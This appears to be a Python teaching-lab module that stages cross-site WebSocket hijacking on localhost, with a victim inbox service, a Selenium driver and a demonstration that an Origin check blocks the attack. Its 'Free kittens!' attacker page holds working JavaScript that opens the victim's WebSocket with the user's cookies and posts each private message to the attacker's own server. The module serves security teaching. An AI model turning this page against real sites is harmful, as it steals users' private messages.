"""Notebook 15's security lab: an account service, an attacker's page, and a real browser.

Cross-site WebSocket hijacking, for real, on 127.0.0.1:

- :class:`AccountService` is a tiny web service: a site (``http://127.0.0.1:SITE``) whose
  ``/login?user=alice`` sets a session cookie (``SameSite=Lax; HttpOnly``), and a
  :func:`wslib.serve` WebSocket (``ws://127.0.0.1:WS/inbox``) that pushes the logged-in user's
  private messages. Cookies are per *host*, not per port: the browser sends the site's cookie to
  the WebSocket port too.
- :class:`AttackerSite` serves a page from ``http://127.0.0.1:EVIL``: another **origin** (another
  port), but the same **site** (same scheme and host), so a ``SameSite=Lax`` cookie still goes
  with its requests. Its JavaScript opens the victim's WebSocket and sends everything it receives
  to the attacker's own server (``POST /collect``): :attr:`AttackerSite.stolen`.
- :func:`hijack` logs alice in with headless Chromium, then visits the attacker's page, and
  reports what was stolen, with a screenshot. Without an Origin check the attack reads alice's
  messages; with ``check_origin=True`` the WebSocket answers 403 and the page gets nothing.
  :func:`hijack_without_browser` sends the very same requests with websocket-client (which can
  send any Origin), for a machine without Chromium.

The WebSocket can authenticate its user four ways (``auth=``), compared in notebook 15:
``"cookie"`` (the session cookie, and the Origin check that makes it safe), ``"query"`` (a token
in the URL: ``/inbox?token=...``, which lands in every access log), ``"first-message"`` (the
first message must be ``{"token": ...}`` within ``token_deadline`` seconds) and ``"subprotocol"``
(the token smuggled in ``Sec-WebSocket-Protocol``, the only header a browser lets JavaScript set:
``new WebSocket(url, ["inbox", "token.<TOKEN>"])``). The inbox page of the site uses the chosen
way; the token is put in that page by the site, which only a page of the site can read.
"""

from __future__ import annotations

import contextlib
import html
import http.server
import json
import secrets
import threading
import time
import urllib.parse
from collections.abc import Callable
from pathlib import Path
from types import TracebackType
from typing import Any

from ..sync.server import Server, ServerConnection, serve

__all__ = [
    "AUTH_MODES",
    "PRIVATE_MESSAGES",
    "AccountService",
    "AttackerSite",
    "hijack",
    "hijack_without_browser",
]

#: The ways the WebSocket can tell who its user is.
AUTH_MODES = ("cookie", "query", "first-message", "subprotocol")

#: What each user's inbox holds: the secrets the attacker is after.
PRIVATE_MESSAGES = {
    "alice": [
        "Your one-time login code is 493 027",
        "Dr. Lee: your test results are ready",
        "Rent paid: 1,250.00 to Oak Street Lettings",
    ],
}

COOKIE = "session"


class _Site:
    """A plain HTTP server on 127.0.0.1 in a thread; :meth:`respond` makes each answer."""

    def __init__(self, name: str) -> None:
        self.name = name
        self.port = 0
        self._server: http.server.ThreadingHTTPServer | None = None
        self._thread: threading.Thread | None = None
        self.requests: list[tuple[str, str, dict[str, str]]] = []  # method, path, headers

    def respond(self, method: str, path: str, headers: dict[str, str], body: bytes) -> Any:
        raise NotImplementedError

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def start(self) -> None:
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def _answer(self, method: str) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(min(length, 65536)) if length else b""
                headers = {k: v for k, v in self.headers.items()}
                site.requests.append((method, self.path, headers))
                status, extra, content = site.respond(method, self.path, headers, body)
                data = content.encode()
                self.send_response(status)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(data)))
                self.send_header("Cache-Control", "no-store")
                for name, value in extra:
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(data)

            def do_GET(self) -> None:
                self._answer("GET")

            def do_POST(self) -> None:
                self._answer("POST")

            def log_message(self, format: str, *args: Any) -> None:
                pass  # the notebook shows self.requests instead

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self.port = self._server.server_address[1]
        self._thread = threading.Thread(
            target=self._server.serve_forever,
            kwargs={"poll_interval": 0.1},
            name=f"wslib-lab-{self.name}",
            daemon=True,
        )
        self._thread.start()

    def stop(self) -> None:
        if self._server is not None:
            self._server.shutdown()
            self._server.server_close()
            self._server = None
        if self._thread is not None:
            self._thread.join(5)


_INBOX_PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Inbox of {user}</title>
<style>body {{ font: 16px system-ui, sans-serif; margin: 2rem; }}
li {{ padding: .2rem 0; }} #status {{ color: #0072B2; }}</style></head>
<body><h1>Inbox of {user}</h1><p id="status">connecting…</p><ul id="inbox"></ul>
<script>
const TOKEN = {token};  // written here by the site: only a page of this origin can read it
const base = "ws://127.0.0.1:{ws_port}/inbox";
let socket;
try {{
  if ({auth!r} === "query") socket = new WebSocket(base + "?token=" + TOKEN);
  else if ({auth!r} === "subprotocol") socket = new WebSocket(base, ["inbox", "token." + TOKEN]);
  else socket = new WebSocket(base);
}} catch (error) {{
  document.getElementById("status").textContent = "refused by the browser: " + error.name;
}}
if (socket) {{
  socket.onopen = () => {{
    document.getElementById("status").textContent = "connected";
    if ({auth!r} === "first-message") socket.send(JSON.stringify({{token: TOKEN}}));
  }};
  socket.onmessage = (event) => {{
    const li = document.createElement("li");
    li.textContent = event.data;
    document.getElementById("inbox").append(li);
  }};
  socket.onclose = (event) => {{
    document.getElementById("status").textContent = "closed " + event.code;
  }};
}}
</script></body></html>
"""


class AccountService:
    """The victim: a site with a login, and a WebSocket pushing the user's private messages.

    - ``check_origin``: the WebSocket accepts only pages of the site (``origins=[site]``).
    - ``auth``: how the WebSocket authenticates (:data:`AUTH_MODES`).
    - ``token_deadline``: seconds to wait for the token in ``"first-message"`` mode.
    - ``ws_host``/``ws_port``: where the pages open the WebSocket (default: the service's own
      WebSocket server; notebook 15 puts nginx there to show its access log).

    A context manager. :attr:`trace` has the WebSocket server's trace lines (what a server log
    keeps), :attr:`handshakes` every handshake the WebSocket handler saw (path, Origin, user).
    """

    def __init__(
        self,
        *,
        check_origin: bool = False,
        auth: str = "cookie",
        token_deadline: float = 2.0,
        ws_port: int | None = None,
    ) -> None:
        if auth not in AUTH_MODES:
            raise ValueError(f"auth must be one of {AUTH_MODES}, not {auth!r}")
        self.check_origin = check_origin
        self.auth = auth
        self.token_deadline = token_deadline
        self.sessions: dict[str, str] = {}  # cookie value -> user
        self.tokens: dict[str, str] = {}  # token -> user
        self.trace: list[str] = []
        self.handshakes: list[dict[str, Any]] = []
        self.site = _Site("account-site")
        self.site.respond = self._respond  # type: ignore[method-assign]
        self.server: Server | None = None
        self._ws_port = ws_port

    # --- the site -----------------------------------------------------------------------------

    def login_url(self, user: str = "alice") -> str:
        return f"{self.site.origin}/login?user={urllib.parse.quote(user)}"

    @property
    def inbox_url(self) -> str:
        return f"{self.site.origin}/inbox"

    @property
    def ws_port(self) -> int:
        assert self.server is not None
        return self._ws_port or self.server.port

    @property
    def ws_url(self) -> str:
        return f"ws://127.0.0.1:{self.ws_port}/inbox"

    def login(self, user: str = "alice") -> str:
        """Open a session for ``user`` (as the login page does); returns the cookie value."""
        session = secrets.token_urlsafe(16)
        self.sessions[session] = user
        return session

    def token_for(self, user: str) -> str:
        token = secrets.token_urlsafe(16)
        self.tokens[token] = user
        return token

    def _user(self, headers: dict[str, str]) -> str | None:
        cookies = headers.get("Cookie", "")
        for part in cookies.split(";"):
            name, _, value = part.strip().partition("=")
            if name == COOKIE and value in self.sessions:
                return self.sessions[value]
        return None

    def _respond(
        self, method: str, path: str, headers: dict[str, str], body: bytes
    ) -> tuple[int, list[tuple[str, str]], str]:
        url = urllib.parse.urlsplit(path)
        query = urllib.parse.parse_qs(url.query)
        if url.path == "/login":
            user = query.get("user", ["alice"])[0]
            session = self.login(user)
            # SameSite=Lax: sent with same-site requests (another port of 127.0.0.1 included),
            # not with cross-site subrequests. HttpOnly: JavaScript cannot read it.
            cookie = f"{COOKIE}={session}; Path=/; HttpOnly; SameSite=Lax"
            page = f"<p>Logged in as {html.escape(user)}. <a href='/inbox'>Inbox</a></p>"
            return 200, [("Set-Cookie", cookie)], page
        if url.path == "/inbox":
            reader = self._user(headers)
            if reader is None:
                return 403, [], "<p>Log in first: <a href='/login'>/login</a></p>"
            token = self.token_for(reader) if self.auth != "cookie" else ""
            page = _INBOX_PAGE.format(
                user=html.escape(reader),
                token=json.dumps(token),
                ws_port=self.ws_port,
                auth=self.auth,
            )
            return 200, [], page
        return 404, [], "<p>Not found</p>"

    # --- the WebSocket ------------------------------------------------------------------------

    def _authenticate(self, conn: ServerConnection) -> str | None:
        headers = dict(conn.request_headers.items())
        if self.auth == "cookie":
            return self._user(headers)
        if self.auth == "query":
            query = urllib.parse.parse_qs(urllib.parse.urlsplit(conn.path).query)
            return self.tokens.get(query.get("token", [""])[0])
        if self.auth == "subprotocol":
            offered = conn.request_headers.get("Sec-WebSocket-Protocol") or ""
            for offer in offered.split(","):
                offer = offer.strip()
                if offer.startswith("token."):
                    return self.tokens.get(offer.removeprefix("token."))
            return None
        # first-message: the token must come first, and soon (a silent client holds a
        # connection and a thread: the deadline bounds what it costs).
        try:
            first = conn.recv(timeout=self.token_deadline)
        except TimeoutError:
            conn.close(1008, "no token within the deadline")
            return None
        try:
            token = json.loads(first)["token"]
        except (ValueError, KeyError, TypeError):
            return None
        return self.tokens.get(token) if isinstance(token, str) else None

    def _handler(self, conn: ServerConnection) -> None:
        user = self._authenticate(conn)
        self.handshakes.append(
            {"path": conn.path, "origin": conn.request_headers.get("Origin"), "user": user}
        )
        if user is None:
            conn.close(1008, "log in first")
            return
        for message in PRIVATE_MESSAGES.get(user, []):
            conn.send(message)
        for _ in conn:  # keep it open until the page goes away
            pass

    def start(self) -> None:
        self.site.start()
        origins = [self.site.origin] if self.check_origin else None
        self.server = serve(
            self._handler,
            origins=origins,
            subprotocols=["inbox"],
            trace=self.trace.append,
            ping_interval=None,
        )

    def stop(self) -> None:
        if self.server is not None:
            self.server.close()
        self.site.stop()

    def __enter__(self) -> AccountService:
        self.start()
        return self

    def __exit__(
        self,
        exc_type: type[BaseException] | None,
        exc: BaseException | None,
        tb: TracebackType | None,
    ) -> None:
        self.stop()


_EVIL_PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Free kittens!</title>
<style>body {{ font: 16px system-ui, sans-serif; margin: 2rem; }}
#stolen li {{ color: #D55E00; }}</style></head>
<body><h1>Free kittens!</h1>
<p>(This page is on <code>{origin}</code>. While you look at kittens, its script opens
<code>{target}</code> with <em>your</em> cookies.)</p>
<p id="status">connecting…</p>
<h2>What this page read from your inbox</h2><ul id="stolen"></ul>
<script>
const socket = new WebSocket("{target}");
socket.onopen = () => {{ document.getElementById("status").textContent = "open"; }};
socket.onmessage = (event) => {{
  const li = document.createElement("li");
  li.textContent = event.data;
  document.getElementById("stolen").append(li);
  fetch("/collect", {{method: "POST", body: event.data}});   // off to the attacker
}};
socket.onerror = () => {{ document.getElementById("status").textContent = "refused"; }};
socket.onclose = (event) => {{
  const status = document.getElementById("status");
  status.textContent += " (closed " + event.code + ")";
  status.dataset.done = "yes";
}};
</script></body></html>
"""


class AttackerSite:
    """The attacker's page on another port of 127.0.0.1, and the server it exfiltrates to.

    :attr:`stolen` lists what the page POSTed to ``/collect``: the victim's messages, if the
    attack worked.
    """

    def __init__(self, target: str) -> None:
        self.target = target
        self.stolen: list[str] = []
        self.site = _Site("attacker-site")
        self.site.respond = self._respond  # type: ignore[method-assign]

    @property
    def url(self) -> str:
        return f"{self.site.origin}/"

    def _respond(
        self, method: str, path: str, headers: dict[str, str], body: bytes
    ) -> tuple[int, list[tuple[str, str]], str]:
        if method == "POST" and path == "/collect":
            self.stolen.append(body.decode("utf-8", "replace"))
            return 200, [], "thanks"
        page = _EVIL_PAGE.format(origin=self.site.origin, target=self.target)
        return 200, [], page

    def __enter__(self) -> AttackerSite:
        self.site.start()
        return self

    def __exit__(
        self,
        exc_type: type[BaseException] | None,
        exc: BaseException | None,
        tb: TracebackType | None,
    ) -> None:
        self.site.stop()


def _wait(condition: Callable[[], bool], timeout: float, what: str) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        if time.monotonic() > deadline:
            raise TimeoutError(f"{what} within {timeout:g} s")
        time.sleep(0.05)


def hijack(
    driver: Any, *, check_origin: bool, screenshot: Path | None = None, timeout: float = 10
) -> dict[str, Any]:
    """Alice logs in (in ``driver``, a Selenium Chromium), then visits the attacker's page.

    Returns ``{"stolen": [...] (what reached the attacker's server), "status": the page's
    status line, "handshakes": what the WebSocket handler saw, "trace": the server's trace,
    "origins": {"site": ..., "attacker": ...}}``; writes a screenshot of the attacker's page to
    ``screenshot`` if given.
    """
    from selenium.webdriver.common.by import By

    with AccountService(check_origin=check_origin) as account:
        with AttackerSite(account.ws_url) as evil:
            driver.get(account.login_url("alice"))
            _wait(lambda: bool(account.sessions), timeout, "alice did not log in")
            driver.get(evil.url)

            def finished() -> bool:
                status = driver.find_element(By.ID, "status")
                if status.get_attribute("data-done"):
                    return True
                # open and every message read (and sent on): the attack has done its work
                expected = len(PRIVATE_MESSAGES["alice"])
                return status.text == "open" and len(evil.stolen) >= expected

            _wait(finished, timeout, "the attacker's page did not finish")
            status = driver.find_element(By.ID, "status").text
            if screenshot is not None:
                driver.save_screenshot(str(screenshot))
            driver.get("about:blank")  # leave the page: its WebSocket closes
            stolen = list(evil.stolen)
        return {
            "stolen": stolen,
            "status": status,
            "handshakes": list(account.handshakes),
            "trace": [line for line in account.trace if " GET " in line or " HTTP/1.1 " in line],
            "origins": {"site": account.site.origin, "attacker": evil.site.origin},
        }


def hijack_without_browser(*, check_origin: bool) -> dict[str, Any]:
    """The requests of :func:`hijack`, made with websocket-client: a session cookie obtained by
    logging in, then a WebSocket handshake with the attacker page's ``Origin`` and the cookie,
    as the browser sends them. Returns ``{"status": 101 or the refusal's status, "stolen":
    [...], "origins": ...}``."""
    import urllib.request

    import websocket  # websocket-client

    with AccountService(check_origin=check_origin) as account, AttackerSite(account.ws_url) as evil:
        with contextlib.closing(urllib.request.urlopen(account.login_url("alice"), timeout=5)) as r:
            cookie = r.headers["Set-Cookie"].split(";", 1)[0]
        stolen: list[str] = []
        try:
            ws = websocket.create_connection(
                account.ws_url, timeout=5, origin=evil.site.origin, cookie=cookie
            )
        except websocket.WebSocketBadStatusException as exc:
            status = exc.status_code
        else:
            status = 101
            with contextlib.closing(ws):
                for _ in PRIVATE_MESSAGES["alice"]:
                    message = ws.recv()
                    stolen.append(message if isinstance(message, str) else message.decode())
        return {
            "status": status,
            "stolen": stolen,
            "origins": {"site": account.site.origin, "attacker": evil.site.origin},
        }
